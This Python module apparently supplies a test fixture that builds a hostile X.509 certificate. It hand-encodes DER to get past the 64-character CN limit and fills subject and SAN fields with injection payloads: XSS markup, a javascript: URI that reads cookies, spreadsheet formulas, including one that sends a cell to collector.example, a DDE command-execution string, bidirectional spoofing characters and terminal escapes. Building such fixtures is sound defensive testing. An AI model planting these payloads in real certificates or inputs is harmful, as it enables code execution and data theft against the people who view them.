"""A certificate whose subject attacks everything that shows it, and that is otherwise in good order.

The certificate builder refuses a CN of more than 64 characters (RFC 5280 A.1, ub-common-name); a hostile
CA does not. So the subject is put in as DER and the certificate is signed again.
"""

from __future__ import annotations

from cryptography import x509
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.hashes import SHA256

COMMON_NAME_LENGTH = 10_240
"""Characters of the hostile CN."""

_MARKUP = "<script>alert('trustdesk')</script><img src=x onerror=alert(1)>"
_FORMULA = '=HYPERLINK("http://collector.example/?"&A1;"Open the report")'
_DIRECTION = "\u202efdp.eciovni\u202c\u2066\u200b\u2069\ufeff"
_CONTROL = "\x1b]0;title taken\x07\x1b[2J\x1b[31m\r\n\t\x00\x7f\x85\u2028"

_COMMON_NAME = bytes.fromhex("0603550403")
_ORGANIZATION = bytes.fromhex("060355040a")
_ORGANIZATIONAL_UNIT = bytes.fromhex("060355040b")
_ECDSA_WITH_SHA256 = bytes.fromhex("300a06082a8648ce3d040302")
_SEQUENCE, _SET, _UTF8_STRING, _BIT_STRING = 0x30, 0x31, 0x0C, 0x03


def hostile_common_name() -> str:
    """Return the CN: a formula first, then markup, control and bidirectional characters, then length."""
    opening = _FORMULA + _MARKUP + _DIRECTION + _CONTROL
    return opening + "A" * (COMMON_NAME_LENGTH - len(opening))


def hostile_names(dns_name: str) -> tuple[x509.GeneralName, ...]:
    """Return further SAN entries: markup as a DNS name, a script and a formula as URIs."""
    return (
        x509.DNSName(f"<svg onload=alert(1)>.{dns_name}"),
        x509.UniformResourceIdentifier("javascript:alert(document.cookie)"),
        x509.UniformResourceIdentifier("=cmd|' /C calc'!A0"),
    )


def with_hostile_subject(
    certificate: x509.Certificate, issuer_key: ec.EllipticCurvePrivateKey
) -> x509.Certificate:
    """Return `certificate` with the hostile subject, signed again by its issuer."""
    subject = _tlv(
        _SEQUENCE,
        _attribute(_ORGANIZATION, f"@SUM(1+1)*cmd|' /C calc'!A0{_CONTROL}"),
        _attribute(_ORGANIZATIONAL_UNIT, _MARKUP + _DIRECTION),
        _attribute(_COMMON_NAME, hostile_common_name()),
    )
    before, found, after = _content(certificate.tbs_certificate_bytes).partition(
        certificate.subject.public_bytes()
    )
    if not found or certificate.subject == certificate.issuer:
        raise ValueError("the subject cannot be told from the issuer")
    to_be_signed = _tlv(_SEQUENCE, before, subject, after)
    signature = issuer_key.sign(to_be_signed, ec.ECDSA(SHA256()))
    return x509.load_der_x509_certificate(
        _tlv(_SEQUENCE, to_be_signed, _ECDSA_WITH_SHA256, _tlv(_BIT_STRING, b"\x00", signature))
    )


def _attribute(oid: bytes, text: str) -> bytes:
    value = _tlv(_UTF8_STRING, text.encode())
    return _tlv(_SET, _tlv(_SEQUENCE, oid, value))


def _tlv(tag: int, *parts: bytes) -> bytes:
    content = b"".join(parts)
    if len(content) < 0x80:
        return bytes((tag, len(content))) + content
    length = len(content).to_bytes((len(content).bit_length() + 7) // 8, "big")
    return bytes((tag, 0x80 | len(length))) + length + content


def _content(der: bytes) -> bytes:
    length_bytes = der[1] & 0x7F if der[1] & 0x80 else 0
    return der[2 + length_bytes :]
